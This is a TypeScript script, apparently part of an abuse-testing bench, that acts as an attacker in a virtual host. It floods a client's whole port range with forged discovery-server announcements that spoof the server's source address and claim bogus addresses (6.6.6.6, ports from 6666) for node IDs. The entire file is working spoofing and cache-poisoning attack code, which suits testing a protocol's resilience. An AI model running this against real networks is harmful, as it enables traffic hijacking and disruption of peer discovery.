/**
 * An attacker who sends forged answers of a discovery server to all ports that a client may use: `spray.ts JSON`. Runs in a
 * virtual host, on a cable to the client's. Prints how many packets it sent.
 */
import { addressWords, Frames } from "../../bench/abuse/frames.ts";
import { PacketSocket } from "../../bench/abuse/packet-socket.ts";
import { announcement, ascii } from "./packets.ts";

export interface Spray {
  /** The attacker's interface. */
  readonly name: string;
  readonly clientMac: string;
  readonly client: string;
  readonly server: string;
  readonly serverPort: number;
  /** All of one length. */
  readonly nodeIds: readonly string[];
  /** How many different addresses are claimed for each node: 6.6.6.6 with this many ports. */
  readonly addresses: number;
  /** The client's range of ports. */
  readonly ports: readonly [number, number];
  readonly seconds: number;
}

/** Frames for one call of the system. */
const BATCH = 512;
/** The port of a forged answer, and of the first of several. */
const FORGED_PORT = 6666;

function run(spray: Spray): number {
  const payloads = spray.nodeIds.flatMap((nodeId) =>
    Array.from({ length: spray.addresses }, (_, i) =>
      announcement(ascii(nodeId), FORGED_PORT + i, Uint8Array.of(6, 6, 6, 6)),
    ),
  );
  const frames = new Frames(BATCH, {
    family: "v4",
    destinationMac: spray.clientMac,
    destination: spray.client,
    sourcePort: spray.serverPort,
    destinationPort: 0,
    payloads,
  });
  using socket = new PacketSocket(spray.name, frames);
  const source = addressWords(spray.server)[0]!;
  const [first, last] = spray.ports;
  // Random order, so that the ports of a client are not hit in a regular pattern.
  const ports = Array.from({ length: last - first + 1 }, (_, i) => first + i);
  for (let i = ports.length - 1; i > 0; i--) {
    const j = Math.floor(Math.random() * (i + 1));
    [ports[i], ports[j]] = [ports[j]!, ports[i]!];
  }
  let sent = 0;
  const end = performance.now() + spray.seconds * 1000;
  while (performance.now() < end) {
    for (let i = 0; i < BATCH; i++) {
      const n = sent + i;
      frames.setPayload(i, Math.floor(n / ports.length) % payloads.length);
      frames.setSource4(i, source);
      frames.setDestinationPort(i, ports[n % ports.length]!);
    }
    sent += socket.send(BATCH);
  }
  return sent;
}

console.log("spraying");
console.log(run(JSON.parse(process.argv[2]!)));
